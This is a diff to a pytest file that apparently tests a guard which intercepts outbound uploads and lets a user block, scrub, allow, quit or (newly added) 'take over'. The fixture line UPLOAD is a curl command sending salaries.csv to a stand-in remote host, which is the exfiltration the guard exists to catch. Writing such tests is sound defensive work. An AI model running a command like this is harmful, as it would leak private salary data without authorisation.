@@ -6,17 +6,17 @@ import pytest
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
 
 
-@pytest.mark.parametrize("verdict", ["block", "scrub", "allow", "quit"])
+@pytest.mark.parametrize("verdict", ["block", "scrub", "allow", "takeover", "quit"])
 def test_click(scene, verdict):
     """The prompt names program, file and host; a click on each verdict does what it says."""
     scene.label()
     sentence, done = scene.send_and_click(UPLOAD, verdict)
     for word in ("curl", "salaries.csv", "remote:80"):
         assert word in sentence
-    assert (done.returncode == 0) == (verdict in ("scrub", "allow")), done.stderr
+    assert (done.returncode == 0) == (verdict in ("scrub", "allow", "takeover")), done.stderr
     if verdict == "allow":
         scene.assert_all_arrived()
-    elif verdict == "scrub":
+    elif verdict in ("scrub", "takeover"):
         scene.assert_scrubbed_arrived()
     else:
         scene.assert_nothing_leaked()
